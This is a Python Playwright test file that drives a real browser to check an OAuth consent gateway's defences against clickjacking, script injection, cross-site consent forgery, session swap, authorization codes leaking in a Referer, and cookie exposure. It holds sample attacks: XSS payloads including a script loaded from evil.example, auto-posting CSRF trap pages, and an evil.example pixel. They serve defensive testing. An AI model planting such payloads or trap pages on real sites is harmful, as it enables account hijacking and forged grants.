"""Attacks in a real browser: frames, smuggled scripts, other sites' forms, swapped sessions, codes in a Referer.

What the gate's headers ask of a browser counts only if a browser does it.
"""

from __future__ import annotations

from collections.abc import Callable
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Dialog, Request, Route

from tests.browser.browsing import Window
from tests.browser.listeners import Listener
from tests.browser.questions import ask
from tests.browser.site import Site

pytestmark = [pytest.mark.e2e, pytest.mark.slow]

Sit = Callable[..., Window]
ELSEWHERE = "This form came from somewhere else"
LOST = "This sign-in is not here any more"


def _posting(action: str, fields: dict[str, str]) -> str:
    """Return a page that posts a form as soon as it is shown."""
    inputs = "".join(f"<input type=hidden name='{name}' value='{value}'>" for name, value in fields.items())
    return (
        f"<!doctype html><title>Trap</title><form id=f method=post action='{action}'>{inputs}</form>"
        "<script>document.getElementById('f').submit()</script>"
    )


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1"], ids=["another site", "the same site"])
def test_no_page_stands_in_a_frame(site: Site, person: Sit, client: Listener, attacker: Listener, host: str) -> None:
    """Click-jacking, a transparent consent over a game: the frame stays empty, whoever makes it."""
    window = person()
    site.connect(window, client)
    question = ask(site.register(), client.callback)
    addresses = [question.address, f"{site.url}/oauth/connected", f"{site.url}/oauth/about"]
    frames = "".join(f"<iframe src='{address.replace('&', '&amp;')}'></iframe>" for address in addresses)
    attacker.pages["/game"] = f"<!doctype html><title>Game</title>{frames}"
    window.go(f"{attacker.at(host)}/game")
    window.page.wait_for_load_state("networkidle")
    shown = [frame for frame in window.page.frames if frame.parent_frame is not None]
    assert len(addresses) == len(shown)
    for frame in shown:
        assert not frame.url.startswith(site.url)  # an error page of the browser's own
        assert 0 == frame.locator("h1").filter(has_text="assistant").count()
    assert len(addresses) == sum("frame-ancestors" in words for words in window.complaints)


def test_a_script_on_a_page_of_ours_does_not_run(site: Site, person: Sit) -> None:
    """Should markup ever slip in: neither inline, nor as an attribute, nor from elsewhere, and no picture goes out."""
    window = person()
    ran: list[str] = []
    asked: list[str] = []

    def note(dialog: Dialog) -> None:
        ran.append(dialog.message)
        dialog.dismiss()

    # Into the bytes themselves: what the driver adds to a page would be the driver's, and run.
    smuggled = (
        "<script>alert('inline')</script><img src='//evil.example/x' alt='' onerror=\"alert('attribute')\">"
        "<script src='//evil.example/x.js'></script><style>h1 { display: none }</style>"
        "<iframe srcdoc=\"<script>alert('frame')</script>\"></iframe>"
    )

    def smuggle(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{smuggled}</main>"))

    window.page.on("dialog", note)
    window.page.on("requestfinished", lambda request: asked.append(request.url))
    window.page.route("**/oauth/about", smuggle)
    window.go(f"{site.url}/oauth/about")
    window.page.wait_for_load_state("networkidle")
    assert 2 == window.page.locator("main script").count()  # they are really there
    assert window.page.locator("h1").is_visible()
    assert [] == ran
    assert [] == [url for url in asked if "evil" in url]
    assert {"script-src", "style-src", "img-src"} == {
        rule for rule in ("script-src", "style-src", "img-src") if any(rule in words for words in window.complaints)
    }


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1"], ids=["another site", "the same site"])
def test_another_page_cannot_answer_for_a_person(
    site: Site, person: Sit, client: Listener, attacker: Listener, host: str
) -> None:
    """Consent CSRF by somebody who even learned the hidden fields.

    From another site the cookie does not come along, so nobody is known; from another port of the same site it does,
    and the browser says that the form is not ours.
    """
    window = person()
    site.connect(window, client)
    window.go(ask(site.register(), client.callback).address)
    before = site.grants()
    attacker.pages["/trap"] = _posting(f"{site.url}/oauth/consent", {**window.hidden_fields(), "decision": "allow"})
    window.go(f"{attacker.at(host)}/trap")
    window.wait_title(LOST if host == "evil.example" else ELSEWHERE)
    assert "Nothing was granted" in window.words
    assert before == site.grants()


def test_another_page_cannot_disconnect_or_sign_out(
    site: Site, person: Sit, client: Listener, attacker: Listener
) -> None:
    """The same for the page of connected assistants, with its own hidden fields."""
    window = person()
    assistant = site.connect(window, client)
    window.go(f"{site.url}/oauth/connected")
    fields = window.hidden_fields()
    for action in ("revoke", "sign_out"):
        attacker.pages["/trap"] = _posting(f"{site.url}/oauth/connected", {**fields, "action": action})
        window.go(f"{attacker.url}/trap")
        window.wait_title(ELSEWHERE)
    window.go(f"{site.url}/oauth/connected")
    assert "You are signed in as alice" in window.words
    assert 200 == site.use(assistant)


def test_a_question_belongs_to_the_browser_that_was_asked(site: Site, person: Sit, client: Listener) -> None:
    """Session swap: the attacker's question, or their way back from Gitea, opened in the victim's browser."""
    attacking, victim = person(), person()
    site.connect(victim, client)
    before = site.grants()
    attacking.go(ask(site.register(), client.callback).address)
    login = attacking.hidden_fields()["login"]
    victim.go(f"{site.url}/oauth/consent?{urlencode({'login': login})}")
    assert LOST == victim.title

    # As far as Gitea's answer, which the attacker keeps for the victim instead of opening it.
    ways: list[str] = []

    def keep(route: Route) -> None:
        ways.append(route.request.url)
        route.fulfill(status=200, content_type="text/html", body="<!doctype html><title>Kept</title>")

    attacking.page.route("**/login/oauth/authorize?**", keep)
    attacking.press("Allow")
    attacking.page.wait_for_url("**/login/oauth/authorize?**")
    kept = site.run(site.place.visitor("bob").person.authorize, ways[0])
    assert kept.startswith(f"{site.url}/oauth/callback?")
    assert "code=" in kept
    victim.go(kept)
    assert LOST == victim.title
    victim.go(f"{site.url}/oauth/connected")
    assert "You are signed in as alice" in victim.words
    assert before == site.grants()


def test_no_code_leaves_in_a_referer(site: Site, person: Sit, client: Listener, attacker: Listener) -> None:
    """A code in an address is a code in a stranger's log, unless no page that has it says where it came from."""
    window = person()
    client.pages["/callback"] = (
        f"<!doctype html><title>Client</title><img src='{attacker.at('evil.example')}/pixel' alt=''>"
    )
    asked: list[Request] = []

    def see(request: Request) -> None:
        asked.append(request)

    window.page.on("request", see)
    site.connect(window, client)
    [came] = client.visits("/callback")
    assert "code=aegis_ac_" in came.target
    assert came.referer is None
    [pixel] = attacker.wait("/pixel")
    assert "code=" not in (pixel.referer or "")
    told = {request.all_headers().get("referer", "") for request in asked}
    assert [] == [referer for referer in told if "code=" in referer or "state=" in referer]
    assert [] == [referer for referer in told if referer.startswith(site.url)]


def test_the_cookie_is_closed_as_far_as_plain_http_allows(site: Site, person: Sit, client: Listener) -> None:
    """Scripts do not see it, other sites do not post with it, and it changes with the sign-in (fixation)."""
    window = person()
    window.go(ask(site.register(), client.callback).address)
    [before] = window.page.context.cookies(site.url)
    found = [before[part] for part in ("name", "httpOnly", "sameSite", "secure", "path", "domain")]
    assert ["aegis_session", True, "Lax", False, "/", "127.0.0.1"] == found
    assert "" == window.page.evaluate("() => document.cookie")
    site.connect(window, client)
    [after] = [one for one in window.page.context.cookies(site.url) if one["name"] == "aegis_session"]
    assert before["value"] != after["value"]
